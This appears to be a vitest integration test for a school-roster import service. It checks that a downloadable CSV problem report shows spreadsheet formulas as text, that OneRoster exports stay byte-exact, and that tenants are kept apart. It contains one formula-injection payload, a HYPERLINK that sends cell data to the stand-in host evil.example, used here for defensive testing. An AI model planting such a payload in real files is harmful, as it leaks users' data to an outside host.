import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTenant, type Tenant } from "../../src/tenants/index.ts";
import { bearerFor, testApp } from "../support/app.ts";
import { createTestDatabase, type TestDatabase } from "../support/database.ts";
import { scratchDir } from "../support/packages.ts";
import { FIXTURES, fixtureItems, readAll, writeZip } from "../unit/csv-read/package-helpers.ts";

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/**
 * The problem report a district downloads opens in a spreadsheet as text: a value that a
 * spreadsheet would run as a formula is shown, never run. OneRoster packages stay byte-exact.
 */
describe("the problem report as a CSV download", () => {
  let database: TestDatabase;
  let tenant: Tenant;
  let harness: ReturnType<typeof testApp>;
  let importer: string;
  const dir = scratchDir();

  beforeAll(async () => {
    database = await createTestDatabase();
    tenant = await createTenant(database.db, "problems", "Problems");
    harness = testApp(database);
    importer = await bearerFor(harness.app, database, tenant, ["gateway.import", "gateway.export"]);
  });
  afterAll(() => database.close());

  const importZip = async (path: string) => {
    const response = await harness.app.request("/admin/v1/imports", {
      method: "POST",
      headers: { authorization: importer, "content-type": "application/zip" },
      body: new Uint8Array(await readFile(path)),
    });
    const { id } = (await response.json()) as { id: string };
    for (let i = 0; i < 300; i++) {
      const job = (await (
        await harness.app.request(`/admin/v1/imports/${id}`, {
          headers: { authorization: importer },
        })
      ).json()) as { status: string };
      if (!["queued", "running"].includes(job.status)) return id;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    throw new Error("the import did not finish");
  };

  const orgsWith = async (name: string, type: string, file: string) => {
    const items = (await fixtureItems(join(FIXTURES, "broken", "cell-enum"))).map((item) =>
      item.name === "orgs.csv"
        ? {
            name: item.name,
            data: `sourcedId,status,dateLastModified,name,type,identifier,parentSourcedId\norg-district,,,"${name.replaceAll('"', '""')}",${type},RUSD,\n`,
          }
        : item,
    );
    return writeZip(join(dir, file), items);
  };

  it("lists every problem with its place and fix, formulas shown as text", async () => {
    const id = await importZip(
      await orgsWith("Riverside", `"${FORMULA.replaceAll('"', '""')}"`, "bad.zip"),
    );
    const response = await harness.app.request(`/admin/v1/imports/${id}/problems.csv`, {
      headers: { authorization: importer },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(response.headers.get("content-disposition")).toContain(`import-${id}-problems.csv`);
    const rows = parse(await response.text(), { columns: true, bom: true }) as Record<
      string,
      string
    >[];
    const problem = rows.find((row) => row.rule === "cell.invalid_enum");
    expect(problem).toMatchObject({
      file: "orgs.csv",
      line: "2",
      column: "type",
      severity: "error",
    });
    expect(problem?.value).toBe(`'${FORMULA}`);
    expect(problem?.fix).not.toBe("");
  });

  it("leaves OneRoster packages byte-exact: an org named like a formula exports as itself", async () => {
    await importZip(await orgsWith("=1+1", "district", "formula-name.zip"));
    const response = await harness.app.request("/admin/v1/exports/oneroster.zip", {
      headers: { authorization: importer },
    });
    const zip = Buffer.from(await response.arrayBuffer());
    const path = join(dir, "export.zip");
    await writeFile(path, zip);
    const { rows } = await readAll(path);
    const org = rows.find((row) => row.record.file === "orgs")?.record;
    expect(org?.values.name).toBe("=1+1");
  });

  it("answers 404 for another tenant's import", async () => {
    const other = await createTenant(database.db, "problems-other", "Other");
    const stranger = await bearerFor(harness.app, database, other, ["gateway.import"]);
    const id = await importZip(await orgsWith("Riverside", "campus", "again.zip"));
    const response = await harness.app.request(`/admin/v1/imports/${id}/problems.csv`, {
      headers: { authorization: stranger },
    });
    expect(response.status).toBe(404);
  });
});
